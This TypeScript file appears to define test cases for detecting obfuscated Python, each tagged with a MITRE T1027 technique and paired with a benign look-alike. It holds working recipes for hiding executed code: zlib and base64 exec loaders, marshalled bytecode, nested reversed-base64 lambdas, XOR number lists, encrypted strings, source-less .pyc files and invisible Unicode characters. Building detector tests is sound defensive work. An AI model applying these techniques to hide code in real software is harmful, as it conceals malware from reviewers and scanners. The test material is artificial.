import type { Attack } from '../attack.js';
import { hiding } from './obfuscated-code.js';

/** Python that hides what it runs. */
export const obfuscatedPython: readonly Attack[] = [
  {
    id: 'obfuscated-python-known',
    title: 'Something known in Python that decompresses and runs it',
    technique: 'T1027.013',
    requires: ['signature'],
    allows: ['obfuscated'],
    attack: hiding`
hidden = b64(zlib.compress(marked(PYTHON).encode()))
run('/usr/bin/python3', put('/srv/app/helper.py', 'import base64,zlib\nexec(zlib.decompress(base64.b64decode("%s")))\n' % hidden))`,
    twin: {
      title: 'a test with certificates and keys in base64',
      ...hiding`
def block(name): return '-----BEGIN %s-----\n' % name + base64.encodebytes(bytes(chance.randrange(256) for _ in range(900))).decode() + '-----END %s-----\n' % name
put('/srv/app/test_tls.py', '"""The server\'s certificate is checked."""\nimport ssl\nimport unittest\n\nCERTIFICATE = """\\\n' + block('CERTIFICATE') + '"""\nKEY = """\\\n' + block('PRIVATE KEY') + r'''"""

class ServerTest(unittest.TestCase):
    def test_names(self):
        self.assertIn('BEGIN CERTIFICATE', CERTIFICATE)

    def test_wrong_host_is_refused(self):
        context = ssl.create_default_context()
        with self.assertRaises(ssl.SSLError):
            context.load_verify_locations(cadata=CERTIFICATE)

if __name__ == '__main__':
    unittest.main()
''')
stay()`,
    },
  },
  {
    id: 'obfuscated-python-marshal',
    title: 'Python whose code is marshalled, compressed and loaded',
    technique: 'T1027.013',
    requires: ['obfuscated'],
    attack: hiding`
hidden = zlib.compress(marshal.dumps(compile(PYTHON, 'x', 'exec')))
run('/usr/bin/python3', put('/srv/app/core.py', 'import marshal,zlib\nexec(marshal.loads(zlib.decompress(%r)))\n' % hidden))`,
    twin: {
      title: 'a plain module and its bytecode',
      ...hiding`
import py_compile
put('/srv/app/core.py', PYTHON.replace('report()\nprint', '\ndef main():\n  report()\n  print').replace('\ntime.sleep', '\n  time.sleep'))
py_compile.compile('/srv/app/core.py')
stay()`,
    },
  },
  {
    id: 'obfuscated-python-lambda',
    title: 'Python in twelve layers, each reversed base64 of a compressed one',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    attack: hiding`
code = PYTHON
for _ in range(12):
    code = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(%r))" % base64.b64encode(zlib.compress(code.encode()))[::-1]
run('/usr/bin/python3', put('/usr/local/lib/python3.11/dist-packages/setup_helper/__init__.py', code + '\n'))`,
    twin: {
      title: 'Python that makes classes from a template and runs them, as the standard library does',
      ...hiding`
put('/srv/app/records.py', r'''"""Records with named fields, made from a template."""
import sys

_TEMPLATE = """\
class {name}(tuple):
    __slots__ = ()
    _fields = {fields!r}

    def __new__(cls, {arguments}):
        return tuple.__new__(cls, ({arguments},))

    def _replace(self, **changes):
        return self.__class__(*map(changes.pop, self._fields, self))
{properties}
"""
_PROPERTY = "    {name} = property(lambda self: self[{index}], doc='field {index}')"


def record(name, *fields):
    """Returns a new class. Fields must be identifiers."""
    for field in fields:
        if not field.isidentifier():
            raise ValueError(f'{field!r} is no identifier')
    source = _TEMPLATE.format(
        name=name, fields=fields, arguments=', '.join(fields),
        properties='\n'.join(_PROPERTY.format(name=field, index=index) for index, field in enumerate(fields)))
    namespace = {'__name__': 'record_' + name}
    exec(compile(source, '<record>', 'exec'), namespace)
    result = namespace[name]
    result.__module__ = sys._getframe(1).f_globals.get('__name__', '__main__')
    return result
''')
stay()`,
    },
  },
  {
    id: 'obfuscated-python-numbers',
    title: 'Python out of a list of numbers, each changed by a key',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    attack: hiding`
numbers = [each ^ 0x5a ^ at % 7 for at, each in enumerate(PYTHON.encode())]
run('/usr/bin/python3', put('/tmp/.x.py', 'exec("".join(map(chr,[n^0x5a^i%%7 for i,n in enumerate(%s)])))\n' % str(numbers).replace(' ', '')))`,
    twin: {
      title: 'Python with tables of numbers of a codec',
      ...hiding`
rows = ['    %s,' % ', '.join('0x%02x' % chance.randrange(256) for _ in range(16)) for _ in range(160)]
put('/srv/app/codec.py', '"""Tables of an audio codec, from its specification."""\n\nSTEPS = (\n' + '\n'.join(rows) + r'''
)


def decode(samples):
    """Yields the values of four-bit samples."""
    value, index = 0, 0
    for sample in samples:
        step = STEPS[index]
        value += (step * (sample & 7)) >> 2 if sample & 8 == 0 else -((step * (sample & 7)) >> 2)
        index = max(0, min(len(STEPS) - 1, index + (sample & 7) - 3))
        yield max(-32768, min(32767, value))
''')
stay()`,
    },
  },
  {
    id: 'obfuscated-python-names',
    title: 'Python whose names are meaningless and whose strings are encrypted one by one',
    technique: 'T1027',
    requires: ['obfuscated'],
    attack: hiding`
import re
def name(): return 'l' + ''.join(chance.choice('lI1') for _ in range(12))
opener = name()
names = {each: name() for each in ('processors', 'hosts', 'report', 'lines', 'line', 'out', 'host', 'path')}
code = re.sub(r"'([^']*)'", lambda found: '%s(%r,%d)' % (opener, bytes(each ^ 77 for each in found[1].encode().decode('unicode_escape').encode()), 77), PYTHON)
for plain, changed in names.items(): code = re.sub(r'\b%s\b' % plain, changed, code)
code = 'def %s(a,b):return bytes(c^b for c in a).decode()\n' % opener + code
run('/usr/bin/python3', put('/srv/app/worker.py', code))`,
    twin: {
      title: 'Python with names and texts in Greek and Japanese',
      ...hiding`
put('/srv/app/grid.py', r'''# Πλέγμα: σημεία και αποστάσεις
import math

ΟΝΟΜΑΤΑ = {'東京': (35.68, 139.69), '京都': (35.01, 135.77), 'Αθήνα': (37.98, 23.73), 'Θεσσαλονίκη': (40.64, 22.94)}


def απόσταση(α, β):
    """大円距離をキロメートルで返す。"""
    φ1, λ1, φ2, λ2 = map(math.radians, (*α, *β))
    δ = math.sin((φ2 - φ1) / 2) ** 2 + math.cos(φ1) * math.cos(φ2) * math.sin((λ2 - λ1) / 2) ** 2
    return 2 * 6371 * math.asin(math.sqrt(δ))


for όνομα, σημείο in ΟΝΟΜΑΤΑ.items():
    print(f'{όνομα}: {απόσταση(σημείο, ΟΝΟΜΑΤΑ["東京"]):.0f} km')
''')
stay()`,
    },
  },
  {
    id: 'obfuscated-python-bytecode',
    title: 'Bytecode of Python with an encrypted script in it, and no source beside it',
    technique: 'T1027.009',
    requires: ['obfuscated'],
    attack: hiding`
import py_compile
hidden = bytes(each ^ (at * 31 + 7) % 256 for at, each in enumerate(zlib.compress((PYTHON + '# ' + words(4000)).encode())))
put('/tmp/w.py', 'import zlib\nexec(zlib.decompress(bytes(e^(i*31+7)%%256 for i,e in enumerate(%r))))\n' % hidden)
py_compile.compile('/tmp/w.py', '/opt/tool.pyc')
os.remove('/tmp/w.py')
run('/usr/bin/python3', '/opt/tool.pyc')`,
    twin: {
      title: 'bytecode of a module with long texts, and no source beside it',
      ...hiding`
import py_compile
put('/tmp/w.py', 'HELP = {\n' + ''.join('    %r: %r,\n' % ('topic-%d' % each, words(120)) for each in range(60)) + '}\n\ndef show(topic):\n    print(HELP.get(topic, "no such topic"))\n')
py_compile.compile('/tmp/w.py', '/opt/help.pyc')
os.remove('/tmp/w.py')
stay()`,
    },
  },
  {
    id: 'obfuscated-python-invisible',
    title: 'Python hidden in characters that are not seen',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    attack: hiding`
hidden = ''.join(chr(0xe0100 + each) for each in PYTHON.encode())
run('/usr/bin/python3', put('/srv/app/version.py', 'NOTE = "%s"\nexec(bytes(ord(c) - 0xe0100 for c in NOTE))\n' % hidden))`,
    twin: {
      title: 'Python with a table of emoji, joiners and flags in it',
      ...hiding`
faces = [chr(0x1f600 + each) for each in range(60)] + ['\U0001f468\u200d\U0001f469\u200d\U0001f467', '\u2764\ufe0f', '\U0001f1e9\U0001f1ea', '\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f']
put('/srv/app/faces.py', '"""Short names of emoji, for messages."""\n\nFACES = {\n' + ''.join('    %r: "%s",\n' % (words(2).replace(' ', '_') + str(at), each) for at, each in enumerate(faces)) + '}\n\n\ndef replace(text):\n    for name, face in FACES.items():\n        text = text.replace(f":{name}:", face)\n    return text\n')
stay()`,
    },
  },
];
